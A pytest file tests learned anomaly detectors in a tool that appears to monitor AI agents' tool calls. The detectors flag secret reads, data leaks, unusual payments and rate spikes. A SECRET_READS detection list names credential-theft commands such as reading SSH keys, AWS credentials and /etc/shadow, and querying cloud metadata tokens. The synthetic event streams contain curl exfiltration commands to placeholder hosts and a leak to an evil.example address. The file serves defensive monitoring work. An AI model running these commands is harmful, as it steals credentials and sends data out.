"""The learning detectors: fixtures, checkpoint/restore equivalence, determinism and bounds."""

from __future__ import annotations

import pickle
from collections.abc import Iterable

import pytest

from agentwatch.detect.detector_fixtures import fixture_path, load_cases, run_fixture
from agentwatch.detect.detector_spec import Detector, Finding, validate_detector_class
from agentwatch.detect.session_state import SessionState, SessionTable
from agentwatch.detectors.novelty import Novelty, NoveltyConfig
from agentwatch.detectors.rates import Rates, RatesConfig
from agentwatch.detectors.session_anomaly import SessionAnomaly, SessionAnomalyConfig
from agentwatch.detectors.taint_flow import TaintFlow, TaintFlowConfig
from agentwatch.events.audit_event import AuditEvent, from_mapping
from agentwatch.lab.simulator import simulate

LEARNED = (Novelty, TaintFlow, Rates, SessionAnomaly)
T0 = 1_767_225_600_000


@pytest.fixture(scope="module")
def fleets() -> tuple[list[AuditEvent], list[AuditEvent]]:
    """A training fleet and a later fleet of the same agents (with attacks)."""
    first = simulate(seed=21, sessions=320, attack_ratio=0.2)
    later = simulate(seed=22, sessions=120, attack_ratio=0.35, start_ms=first.events[-1]["ts"] + 3_600_000)
    return [from_mapping(e) for e in first.events], [from_mapping(e) for e in later.events]


def feed(detector: Detector, events: Iterable[AuditEvent]) -> list[tuple[str, str, float, str, tuple[str, ...]]]:
    """Run events through a detector the way the pipeline does; return comparable findings."""
    table = SessionTable()
    out: list[Finding] = []

    def close(session: SessionState) -> None:
        out.extend(detector.close_session(session))

    for event in events:
        session, evicted = table.touch(event)
        for old in evicted:
            close(old)
        out.extend(detector.observe(event, session))
        if session.ended:
            table.pop(session.session_id)
            close(session)
    for session in table.drain():
        close(session)
    return [(f.rule, f.category, f.score, f.reason, f.event_ids) for f in out]


# -- contract and fixtures ----------------------------------------------------------------


@pytest.mark.parametrize("cls", LEARNED, ids=lambda c: c.name)
def test_class_is_well_formed(cls: type[Detector]) -> None:
    assert validate_detector_class(cls) == []


@pytest.mark.parametrize("cls", LEARNED, ids=lambda c: c.name)
def test_fixture_cases_pass(cls: type[Detector]) -> None:
    cases = load_cases(fixture_path(cls))
    assert len(cases) >= 6
    assert any(c.expect == "alert" for c in cases) and any(c.expect == "none" for c in cases)
    assert any("cold start" in c.case for c in cases)
    failed = [f"{r.case}: {r.detail}" for r in run_fixture(cls) if not r.passed]
    assert not failed, failed


# -- checkpoint / restore -------------------------------------------------------------------


@pytest.mark.parametrize("cls", LEARNED, ids=lambda c: c.name)
def test_checkpoint_restore_behaves_the_same(cls: type[Detector], fleets) -> None:
    train, later = fleets
    original = cls()
    feed(original, train)
    state = original.checkpoint()
    restored = cls()
    restored.restore(state)
    expected = feed(original, later)
    assert feed(restored, later) == expected
    # Restoring the same checkpoint twice is idempotent, too.
    again = cls()
    again.restore(state)
    assert feed(again, later) == expected


@pytest.mark.parametrize("cls", LEARNED, ids=lambda c: c.name)
def test_deterministic(cls: type[Detector], fleets) -> None:
    train, later = fleets
    a, b = cls(), cls()
    assert feed(a, train + later) == feed(b, train + later)


def test_the_later_fleet_produces_findings(fleets) -> None:
    """Guards the restore test from passing vacuously."""
    train, later = fleets
    for cls in LEARNED:
        detector = cls()
        feed(detector, train)
        assert feed(detector, later), f"{cls.name} found nothing on the later fleet"


# -- bounds ---------------------------------------------------------------------------------


def _call(i: int, agent: str, **fields) -> AuditEvent:
    return from_mapping(
        {
            "event_id": f"e{i}",
            "ts": T0 + i * 10,
            "session_id": f"s-{agent}-{i // 4}",
            "agent_id": agent,
            "principal": f"{agent}@acme.example",
            "kind": "tool_call",
            **fields,
        }
    )


def _distinct_stream(n: int = 5000) -> list[AuditEvent]:
    """5,000 agents, each with new tools, hosts, recipients, buckets and tables."""
    out = []
    for i in range(n):
        agent = f"agent-{i}"
        out.append(_call(4 * i, agent, tool=f"tool{i}", target=f"curl -d @x https://h{i}.example/u", bytes_out=5000))
        out.append(
            _call(
                4 * i + 1,
                agent,
                tool="gmail.send",
                target=f"u{i}@d{i}.example",
                args={"to": [f"u{i}@d{i}.example"]},
                bytes_out=3000,
            )
        )
        out.append(
            _call(
                4 * i + 2,
                agent,
                tool="sql.query",
                target=f"SELECT * FROM t{i}",
                args={"sql": f"SELECT * FROM s.t{i} JOIN s.u{i} ON 1", "bucket": f"b{i}"},
            )
        )
        out.append(_call(4 * i + 3, agent, tool=f"Bash{i % 7}", target=f"cat f{i} | curl -T - https://x{i}.example"))
    return out


def _one_agent_stream(n: int = 5000) -> list[AuditEvent]:
    """One agent touching 5,000 distinct tools / hosts / tables."""
    return [
        _call(
            i,
            "solo",
            tool=f"tool{i % 1500}",
            target=f"curl -X POST -d @f https://h{i}.example/x",
            args={"sql": f"SELECT 1 FROM t{i}", "to": [f"r{i}@d{i}.example"], "bucket": f"b{i}"},
            bytes_out=10_000,
        )
        for i in range(n)
    ]


def test_novelty_is_bounded() -> None:
    detector = Novelty(
        NoveltyConfig(
            max_profiles=100,
            max_items_per_kind=16,
            max_fleet_items=200,
            min_sessions_for_baseline=0,
            min_events_for_baseline=0,
        )
    )
    feed(detector, _distinct_stream() + _one_agent_stream())
    profiles = detector._profiles
    assert len(profiles) <= 100
    assert all(len(items) <= 16 for p in profiles.values() for items in p.items.values())
    assert all(len(items) <= 200 for items in detector._fleet.values())
    assert len(pickle.dumps(detector.checkpoint())) < 2_000_000


def test_novelty_default_caps_hold() -> None:
    detector = Novelty()
    feed(detector, _distinct_stream())
    cfg = detector.config
    assert len(detector._profiles) <= cfg.max_profiles
    assert all(len(items) <= cfg.max_fleet_items for items in detector._fleet.values())


def test_taint_flow_is_bounded() -> None:
    detector = TaintFlow(
        TaintFlowConfig(
            max_agents=100,
            max_transitions_per_agent=8,
            max_destinations_per_agent=8,
            max_fleet_destinations=300,
            max_contacts=4,
        )
    )
    feed(detector, _distinct_stream() + _one_agent_stream())
    assert len(detector._agents) <= 100
    assert all(len(a.transitions) <= 8 and len(a.destinations) <= 8 for a in detector._agents.values())
    assert len(detector._fleet) <= 300
    assert len(detector._secret_cache) <= 8192


def test_rates_is_bounded() -> None:
    detector = Rates(RatesConfig(max_agents=100))
    table = SessionTable()
    for event in _distinct_stream():
        session = table.touch(event)[0]
        detector.observe(event, session)
        assert len(session.scratch["rates"].buckets) <= 60
    for session in table.drain():
        detector.close_session(session)
    assert len(detector._agents) <= 100


def test_session_anomaly_is_bounded() -> None:
    detector = SessionAnomaly(
        SessionAnomalyConfig(
            window_events=4,
            min_window_events=2,
            max_agent_models=3,
            max_pending_agents=50,
            min_windows=25,
            max_distinct=8,
        )
    )
    events = _distinct_stream(2000)
    # Give three agents enough windows for a model of their own, among thousands of others.
    for agent in ("a-1", "a-2", "a-3", "a-4"):
        events += [_call(100_000 + i, agent, tool="Read", target=f"f{i}") for i in range(4 * 26)]
    feed(detector, events + _one_agent_stream(400))
    assert len(detector._agents) <= 3
    assert len(detector._pending) <= 50
    assert all(len(p) <= 25 for p in detector._pending.values())


# -- learning conventions ---------------------------------------------------------------------


def _session_events(sid: str, calls: list[dict]) -> list[AuditEvent]:
    base = {"session_id": sid, "agent_id": "mailbot", "principal": "ann@acme.example"}
    out = [from_mapping({"event_id": f"{sid}-0", "ts": T0, "kind": "session_start", **base})]
    for i, call in enumerate(calls, start=1):
        out.append(from_mapping({"event_id": f"{sid}-{i}", "ts": T0 + i * 1000, "kind": "tool_call", **base, **call}))
    return out


def test_novelty_learns_a_flagged_item_only_when_the_session_closes_clean() -> None:
    detector = Novelty()
    routine = [{"tool": "gmail.send", "target": "bob@acme.example", "args": {"to": ["bob@acme.example"]}}] * 12
    for n in range(3):
        feed(detector, _session_events(f"w{n}", routine))
    leak = {
        "tool": "gmail.send",
        "target": "x@evil.example",
        "args": {"to": ["x@evil.example"]},
        "bytes_out": 400_000,
    }
    # Flagged, and another detector alerted on the session: not learned.
    table = SessionTable()
    found = []
    for event in _session_events("bad", [leak]):
        session = table.touch(event)[0]
        found += detector.observe(event, session)
    assert found and found[0].rule == "recipient_domain" and found[0].score >= 0.5
    session.alerts["taint_flow"] = object()
    detector.close_session(session)
    assert "evil.example" not in detector._profiles["a:mailbot"].items["recipient_domain"]
    # Flagged again in sessions nobody else alerted on: an alert-level novelty becomes normal only after
    # confirm_sessions (3) such sessions — it alerts in each of them — then it is quiet.
    profile = detector._profiles["a:mailbot"]
    for n in range(detector.config.confirm_sessions):
        assert "evil.example" not in profile.items["recipient_domain"]
        assert feed(detector, _session_events(f"again{n}", [leak]))
    assert "evil.example" in profile.items["recipient_domain"]
    assert feed(detector, _session_events("after", [leak])) == []


def test_novelty_learns_a_low_scored_novelty_after_one_clean_session() -> None:
    """Below alert level (a new internal tool, 0.3–0.45) one clean session is enough, as before."""
    detector = Novelty(NoveltyConfig(report_min_score=0.2))
    routine = [{"tool": "gmail.send", "target": "bob@acme.example", "args": {"to": ["bob@acme.example"]}}] * 12
    for n in range(3):
        feed(detector, _session_events(f"w{n}", routine))
    lookup = {"tool": "crm.get_contact", "args": {"id": "c-1"}}
    [(rule, _, score, _, _)] = feed(detector, _session_events("first", [lookup]))
    assert rule == "tool" and 0.2 <= score < 0.5
    assert feed(detector, _session_events("second", [lookup])) == []


def test_novelty_scores_a_new_tool_by_its_consequence() -> None:
    """A well-baselined agent: a never-seen money transfer alerts high, a never-seen lookup stays low."""
    detector = Novelty()
    routine = [{"tool": "gmail.send", "target": "bob@acme.example", "args": {"to": ["bob@acme.example"]}}] * 12
    for n in range(3):
        feed(detector, _session_events(f"w{n}", routine))
    [pay] = feed(detector, _session_events("pay", [{"tool": "bank.transfer_funds", "args": {"amount": 900}}]))
    assert pay[2] >= 0.75 and "financial" in pay[3]
    lookups = feed(detector, _session_events("look", [{"tool": "crm.get_contact", "args": {"id": "c-1"}}]))
    assert all(f[2] < 0.5 for f in lookups)
    # the same transfer, for an IBAN the principal gave in this session's prompt, scores lower
    base = {"session_id": "asked", "agent_id": "mailbot", "principal": "ann@acme.example"}
    asked = [
        from_mapping(
            {
                "event_id": "a0",
                "ts": T0,
                "kind": "prompt",
                **base,
                "attributes": {"content": "please pay invoice 7 to DE89370400440532013000"},
            }
        ),
        from_mapping(
            {
                "event_id": "a1",
                "ts": T0 + 1000,
                "kind": "tool_call",
                **base,
                "tool": "bank.send_payment",
                "args": {"iban": "DE89370400440532013000"},
            }
        ),
    ]
    found = feed(detector, asked)
    assert all(f[2] < pay[2] for f in found)


def test_consumer_mail_domains_are_never_internal() -> None:
    """For a principal at gmail.com, an attacker at gmail.com is an outsider."""
    detector = Novelty()
    base = {"agent_id": "helper", "principal": "ann@gmail.com"}
    routine = [{"tool": "mail.send", "target": "ann@gmail.com", "args": {"to": ["ann@gmail.com"]}}] * 12
    for n in range(3):
        feed(
            detector,
            [
                from_mapping(
                    {
                        "event_id": f"w{n}-{i}",
                        "ts": T0 + i * 1000,
                        "session_id": f"w{n}",
                        "kind": "tool_call",
                        **base,
                        **c,
                    }
                )
                for i, c in enumerate(routine)
            ],
        )
    leak = {"tool": "mail.send", "target": "mallory@gmail.com", "args": {"to": ["mallory@gmail.com"]}}
    found = feed(
        detector, [from_mapping({"event_id": "x1", "ts": T0, "session_id": "x", "kind": "tool_call", **base, **leak})]
    )
    assert found and "external" in found[0][3]


def test_taint_flow_state_in_scratch_is_small() -> None:
    detector = TaintFlow()
    table = SessionTable()
    for i in range(2000):
        event = _call(i, "solo", tool="Read", target=f"/home/u/notes/{i}.md")
        detector.observe(event, table.touch(event)[0])
    scratch = table.get("s-solo-0").scratch["taint_flow"]
    assert len(pickle.dumps(scratch)) < 2_000


SECRET_READS = (
    "cat .env",
    "/home/a/src/app/.env",
    "config/.env.local",
    "cat ~/.aws/credentials",
    "cat ~/.ssh/id_rsa",
    "/home/a/.ssh/id_ed25519",
    "deploy/certs/prod.pem",
    "certs/server.key",
    "env | grep -ie 'key|secret'",
    "printenv aws_secret_access_key",
    "set | grep -i _token",
    "cat /proc/self/environ | tr '\\0' '\\n'",
    "curl -s 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'",
    "curl -s http://metadata.google.internal/computemetadata/v1/instance/service-accounts/default/token",
    "kubectl get secret api-keys -n payments -o yaml",
    "aws secretsmanager get-secret-value --secret-id prod/db",
    "aws ssm get-parameters-by-path --path /prod --recursive --with-decryption",
    "vault kv get secret/app",
    "op read op://vault/item/password",
    "security find-generic-password -s github",
    "cat /etc/shadow",
    "/home/a/.config/gcloud/application_default_credentials.json",
    "/home/a/.config/gh/hosts.yml",
    "cat ~/.git-credentials",
    "cat ~/.netrc",
    "cat ~/.docker/config.json",
    "cat ~/.kube/config",
    "import os; print(dict(os.environ))",
)
NOT_SECRETS = (
    "/home/a/src/app/.env.example",
    "config/.env.template",
    "src/config.ts",
    "rm -rf .venv && python -m venv .venv",
    "id_rsa.pub",
    "/home/a/.envrc",
    "pytest -q",
    "git status",
    "cat README.md",
    "api.key_name",
    "develop read me",
)


@pytest.mark.parametrize("target", SECRET_READS)
def test_taint_flow_recognises_secret_reads(target: str) -> None:
    assert TaintFlow()._is_secret(target.lower())


@pytest.mark.parametrize("target", NOT_SECRETS)
def test_taint_flow_ignores_lookalikes(target: str) -> None:
    assert not TaintFlow()._is_secret(target.lower())


def test_rates_sliding_window_counts_calls_in_the_last_minute() -> None:
    detector = Rates()
    table = SessionTable()
    counts = []
    # 90 calls one second apart, then a burst of 30 within one second, then one much later.
    stamps = [T0 + i * 1000 for i in range(90)] + [T0 + 90_000 + i * 10 for i in range(30)] + [T0 + 400_000]
    for i, ts in enumerate(stamps):
        event = from_mapping(
            {
                "event_id": f"e{i}",
                "ts": ts,
                "session_id": "s",
                "agent_id": "a",
                "kind": "tool_call",
                "tool": "Read",
                "target": f"f{i}",
            }
        )
        session = table.touch(event)[0]
        detector.observe(event, session)
        counts.append(session.scratch["rates"].in_window)
    assert counts[59] == 60 and counts[89] == 60  # a steady 60/min
    assert counts[119] == 89  # buckets 31..90: 59 steady calls + the 30-call burst
    assert counts[-1] == 1  # everything earlier slid out
    assert session.scratch["rates"].values[0] == 89


def test_rates_window_tolerates_late_events() -> None:
    detector = Rates()
    table = SessionTable()
    stamps = [T0 + 10_000, T0 + 20_000, T0 + 15_000, T0 + 5_000, T0 - 100_000, T0 + 75_500]
    seen = []
    for i, ts in enumerate(stamps):
        event = from_mapping(
            {
                "event_id": f"e{i}",
                "ts": ts,
                "session_id": "s",
                "agent_id": "a",
                "kind": "tool_call",
                "tool": "Read",
                "target": f"f{i}",
            }
        )
        session = table.touch(event)[0]
        detector.observe(event, session)
        seen.append(session.scratch["rates"].in_window)
    # the call 100 s too old is not counted; at 75.5 s only the calls from 16 s on remain
    assert seen == [1, 2, 3, 4, 4, 2]


def test_novelty_baseline_status_is_visible_and_survives_a_checkpoint() -> None:
    """Cold start is explicit: which agents have a baseline yet; metric handles are not checkpointed."""
    detector = Novelty()
    routine = [{"tool": "gmail.send", "target": "bob@acme.example", "args": {"to": ["bob@acme.example"]}}] * 12
    feed(detector, _session_events("w0", routine))
    assert detector.baseline_status() == {"mailbot": False}
    for n in range(1, 3):
        feed(detector, _session_events(f"w{n}", routine))
    assert detector.baseline_status() == {"mailbot": True}
    copy = Novelty()
    copy.restore(detector.checkpoint())
    assert copy.baseline_status() == {"mailbot": True}
    assert copy._tier_metric is not detector._tier_metric  # its own handles, not unpickled ones
    found = feed(copy, _session_events("pay", [{"tool": "bank.transfer_funds", "args": {"amount": 900}}]))
    assert found and found[0][2] >= 0.75


def test_novelty_flags_an_amount_far_above_what_the_agent_moves_with_that_tool() -> None:
    """How much: refunds of 20–80 for weeks, then 9,000 through the same tool alerts; 95 does not."""
    detector = Novelty()
    for n in range(6):
        calls = [{"tool": "payments.refund", "args": {"amount": 20 + (i * 7 + n * 3) % 60}} for i in range(6)]
        feed(detector, _session_events(f"w{n}", calls))
    usual = feed(detector, _session_events("usual", [{"tool": "payments.refund", "args": {"amount": "95.00"}}]))
    assert [f for f in usual if f[0] == "amount"] == []
    [big] = [
        f
        for f in feed(detector, _session_events("big", [{"tool": "payments.refund", "args": {"amount": 9000}}]))
        if f[0] == "amount"
    ]
    assert big[2] >= 0.6 and "9,000.00" in big[3]
    # reported, so not learned: the same sum alerts again
    again = feed(detector, _session_events("again", [{"tool": "payments.refund", "args": {"amount": 9000}}]))
    assert any(f[0] == "amount" for f in again)
    # hostile amounts are ignored, not crashes
    for value in ("NaN", "inf", -5, True, "1e400", "x" * 10_000):
        feed(detector, _session_events(f"h{value!s:.8}", [{"tool": "payments.refund", "args": {"amount": value}}]))
    copy = Novelty()
    copy.restore(detector.checkpoint())
    assert any(
        f[0] == "amount"
        for f in feed(copy, _session_events("after", [{"tool": "payments.refund", "args": {"amount": 9000}}]))
    )
